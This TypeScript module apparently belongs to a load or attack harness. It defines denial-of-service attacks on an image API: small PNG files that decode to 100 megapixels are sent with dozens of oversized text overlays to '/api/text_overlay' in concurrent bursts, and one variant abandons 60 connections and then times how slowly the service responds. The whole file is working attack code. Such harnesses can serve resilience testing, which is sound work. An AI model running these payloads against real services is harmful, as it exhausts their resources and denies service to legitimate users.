import { setTimeout as delay } from 'node:timers/promises';
import { type Attack, type Call, keyOf, sendTogether, type Target } from './attack.ts';
import { makeForm } from './form.ts';
import { makePng } from './pictures/png.ts';

const texts = 20;
const leavesAfterMs = 300;
/** For the slots to be free again, and for the victim to call a few times. */
const watchedAfterwardsMs = 10_000;

/** A small file that is 100 megapixels large, and texts that cover all of it many times over. */
export const largeTexts: readonly Attack[] = [
  together('R1-one', 1),
  together('R1-two', 2),
  together('R1-six', 6),
  together('R6-sixty', 60),
  {
    name: 'away-sixty',
    sends: `the same 60 times, connections closed after ${leavesAfterMs} ms`,
    prepare: async () => {
      const call = await makeCall();
      return { run: (target) => callAndLeave(target, call) };
    },
  },
];

function together(name: string, count: number): Attack {
  return {
    name,
    sends: `${count} x 10,000 x 10,000 PNG with ${texts} texts`,
    prepare: async () => {
      const call = await makeCall();
      return { run: (target) => sendTogether(target, call, count) };
    },
  };
}

async function makeCall(): Promise<Call> {
  const picture = await makePng({ width: 10_000, height: 10_000, colourType: 'rgb', bitDepth: 8 });
  return overlayCall(picture);
}

/** Draws as many and as large texts as a call may have on a picture. */
export function overlayCall(picture: Buffer): Call {
  const overlay = {
    text: 'WWWW '.repeat(200),
    font_size: 300,
    outline_width: 20,
    max_width: 10_000,
    x: 5_000,
    y: 5_000,
  };
  const overlays = JSON.stringify(Array.from({ length: texts }, () => overlay));
  return {
    path: '/api/text_overlay',
    ...makeForm({ overlays }, { field: 'image', name: 'large.png', bytes: picture }),
  };
}

async function callAndLeave(target: Target, call: Call): Promise<void> {
  const key = keyOf(target);
  const calls = Array.from({ length: 60 }, () => {
    const opened = target.open({ ...call, key }, call.body.byteLength);
    opened.outgoing.end(call.body);
    return opened;
  });
  await delay(leavesAfterMs);
  for (const opened of calls) opened.leave('left');
  const picture = await makePng({ width: 300, height: 200, colourType: 'rgb', bitDepth: 8 });
  const form = makeForm({ padding_size: '50' }, { field: 'image', name: 'picture.png', bytes: picture });
  const { status, tookMs } = await target.send({ path: '/api/image_padding', key, ...form });
  target.note(`the attacker's next padding: ${status} after ${Math.round(tookMs)} ms`);
  if (!target.signal.aborted) await delay(watchedAfterwardsMs);
}
